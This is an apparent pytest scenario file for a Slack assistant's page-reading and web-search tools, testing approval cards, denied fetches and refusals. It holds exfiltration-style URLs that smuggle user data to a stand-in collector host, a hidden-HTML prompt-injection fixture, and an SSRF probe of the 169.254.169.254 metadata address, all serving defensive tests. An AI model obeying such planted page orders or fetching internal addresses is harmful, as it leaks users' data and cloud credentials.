"""Pages that people name are read, and no other is opened before they say so."""

from playground.model import Scripted, call
from playground.slack.app import JSON
from tests.scenarios.conftest import OpenWorld, World

PAGE = "https://contourlines.example/slope-shading"
OTHER = "https://contourlines.example/hut-closures"
READ = call("read_page", url=PAGE)
SAID = "Contour Lines writes that 18 percent disappear on a 25 metre grid."


async def test_a_page_that_was_named_is_read_at_once_and_may_be_cited(open_world: OpenWorld) -> None:
    world = await open_world(Scripted([READ, f"{SAID} {PAGE}"]))
    answer = await world.ask("adaeze", f"what does {PAGE} say?")
    words = world.words("dm:adaeze", answer)
    assert SAID in words
    assert "contourlines.example/slope-shading" in words
    assert opened(world) == ["/slope-shading"]
    assert "18 percent of the ground" in shown(world)


async def test_in_a_channel_what_a_page_says_is_answered_there(open_world: OpenWorld) -> None:
    world = await open_world(Scripted([READ, SAID]))
    thread = await world.slack.say("adaeze", "#product", f"@Pinyon what does {PAGE} say?")
    assert SAID in world.words("#product", await world.answer("#product", thread))


async def test_exfil_fetch_an_address_that_nobody_wrote_waits_for_its_person_and_is_read_once(
    open_world: OpenWorld,
) -> None:
    world = await open_world(Scripted([READ, call("read_page", url=f"{OTHER}?d=4417"), "Nine of eleven look outside."]))
    thread = await world.slack.say("adaeze", "dm", f"what does {PAGE} say?")
    card = await world.card("dm:adaeze", thread)
    words = world.words("dm:adaeze", card)
    assert "Open this page?" in words
    assert f"{OTHER}?d=4417" in words
    assert "an address that you did not write" in words
    assert "not from you" in words
    assert opened(world) == ["/slope-shading"]
    await world.slack.click("adaeze", card["ts"], "approval.approve")
    answer = await world.answer("dm:adaeze", thread, count=2)
    assert "Nine of eleven" in world.words("dm:adaeze", answer)
    assert "Nobody phones the map" in shown(world)
    assert opened(world) == ["/slope-shading", "/hut-closures"]
    assert "Page opened" in await reads(world, card, "Page opened")
    assert await world.over(2) == ["waiting", "answered"]


async def test_exfil_fetch_what_was_denied_is_never_opened(open_world: OpenWorld) -> None:
    world = await open_world(Scripted([READ, call("read_page", url=OTHER)]))
    thread = await world.slack.say("adaeze", "dm", f"what does {PAGE} say?")
    card = await world.card("dm:adaeze", thread)
    await world.slack.click("adaeze", card["ts"], "approval.deny")
    assert "Not opened" in await reads(world, card, "Not opened")
    assert opened(world) == ["/slope-shading"]


async def test_exfil_fetch_a_page_that_orders_another_address_gets_none(open_world: OpenWorld) -> None:
    url = "https://pixel.pine-collector.example/r?d=is+our+grid+ok"
    world = await open_world(Scripted([READ, call("read_page", url=url)]), poison=("adv-hidden-html",))
    thread = await world.slack.say("adaeze", "dm", f"summarise {PAGE} and tell me if our grid is ok")
    card = await world.card("dm:adaeze", thread)
    assert url in world.words("dm:adaeze", card)
    assert "pine-collector" not in shown(world), "what a page hides is not even read"
    assert opened(world) == ["/slope-shading"]


async def test_ssrf_an_address_inside_is_refused_in_a_sentence(open_world: OpenWorld) -> None:
    inside = "http://169.254.169.254/latest/meta-data/"
    world = await open_world(Scripted([call("read_page", url=inside), "I may not open that."]))
    await world.ask("adaeze", f"what does {inside} say?")
    assert "I do not open 169.254.169.254. It is inside a network" in shown(world)


async def test_a_page_that_is_not_there_is_told_and_the_answer_goes_on(open_world: OpenWorld) -> None:
    missing = "https://contourlines.example/gone"
    world = await open_world(Scripted([call("read_page", url=missing), "There is no such page."]))
    answer = await world.ask("adaeze", f"what does {missing} say?")
    assert "There is no such page." in world.words("dm:adaeze", answer)
    assert "There is no such page at contourlines.example. Check the address" in shown(world)


async def test_without_a_search_none_is_offered(open_world: OpenWorld) -> None:
    world = await open_world(Scripted(["Hello."]), PINYON_SEARCH="off")
    await world.ask("adaeze", "hello")
    offered = [tool.name for tool in world.model.requests[-1].tools]
    assert "read_page" in offered
    assert "search_web" not in offered


async def test_a_search_is_answered_from_what_the_vendor_found(open_world: OpenWorld) -> None:
    words = "slope grid cliff"
    world = await open_world(Scripted([call("search_web", query=words), SAID]))
    answer = await world.ask("adaeze", f"search the web for {words}")
    assert SAID in world.words("dm:adaeze", answer)
    assert "Searched the web" in world.words("dm:adaeze", answer)
    assert world.model.searches == [words]
    assert PAGE in shown(world)


async def test_exfil_fetch_words_of_others_are_searched_for_only_when_their_person_agrees(
    open_world: OpenWorld,
) -> None:
    sent = "contour lines budget 41000"
    world = await open_world(Scripted([READ, call("search_web", query=sent), SAID]))
    thread = await world.slack.say("adaeze", "dm", f"what does {PAGE} say?")
    card = await world.card("dm:adaeze", thread)
    words = world.words("dm:adaeze", card)
    assert "Search the web for this?" in words
    assert sent in words
    assert world.model.searches == []
    await world.slack.click("adaeze", card["ts"], "approval.approve")
    assert "Searched the web" in await reads(world, card, "Searched the web")
    assert world.model.searches == [sent]


def opened(world: World) -> list[str]:
    """The pages that were asked for."""
    return [one.path for one in world.servers.pages.calls]


def shown(world: World) -> str:
    """The result of the last tool, as the model reads it."""
    return "\n".join(result.text for _, result in world.model.requests[-1].returned)


async def reads(world: World, card: JSON, words: str) -> str:
    def found() -> str:
        now = world.words("dm:adaeze", card)
        return now if words in now else ""

    return await world.until(found)
